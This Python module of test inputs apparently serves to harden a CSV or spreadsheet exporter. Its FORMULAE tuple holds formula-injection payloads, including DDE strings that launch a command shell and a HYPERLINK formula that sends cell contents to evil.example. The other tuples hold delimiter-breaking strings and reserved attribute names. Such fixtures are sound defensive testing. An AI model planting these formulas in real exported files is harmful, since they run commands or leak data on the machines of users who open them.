"""Values and names that a spreadsheet would run, that break out of a file's form, or that programs take for their own words."""

FORMULAE = (
    "=1+1", "+1+1", "-1+1", "@SUM(A1:A9)", "=cmd|'/c calc'!A0", "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1",
    "＝1+1", "＋1+1", "－1+1", "＠SUM(A1)", "=\u200b1+1", "\u200b=1+1", "\ufeff=1+1", "'=1+1", "\"=1+1", "=DDE(\"cmd\";\"/c calc\";\"x\")", "=WEBSERVICE(\"http://e\")",
    "=IMPORTXML(\"http://evil.example\",\"//a\")", "-2+3+cmd|' /C calc'!D2", "+49-30-123", "-", "+", "=", "@", "-a", "+a", "--1", "=-1", "1;=1+1", "1\t=1+1", "x\n=1+1",
    "%0A=1+1", "=A1&CHAR(10)", "(=1+1)", "{=1+1}", "\x0b=1+1", "\x00=1+1", "\u2028=1+1", "\u00a0=1+1", "\u3000=1+1",
)  # fmt: skip

BREAKERS = (
    "\"", "\"\"", "a\"b\"c", ",", ";", "a,b", "a\nb", "a\r\nb", "a\rb", "\\", "\\n", "'", "''", "\x00", "\x1f", "\x85", "\u2028", "\ufeff", "\ud800", "\U0010ffff", "\uffff",
    "</script><script>", "]]>", "-->", "${x}", "{{x}}", "NULL", "\\N", "NaN", "Infinity", "1e999", "-0", "0x1F", "1_000", "00012", "١٢٣", "2024-99-99", "31/02/2024",
    "9" * 400, "€" * 300, "a" * 32_768, "_x000D_", "\x1b[31m", "\u202e",
)  # fmt: skip

ATTRIBUTE_NAMES = (
    "field", "items", "validate_input", "class", "def", "import", "__init__", "__class__", "constructor", "__proto__", "select", "table", "rowid", "_id", "URL", "url", "self",
    "None", "True", "x y", "é", "名前", "a-b", "a.b", "a/b", "a'b", "a\"b", "a;b", "a{b}", "a%sb", "=a", "1a", "-", "$a", "response", "item", "scrapy", "yield",
)  # fmt: skip
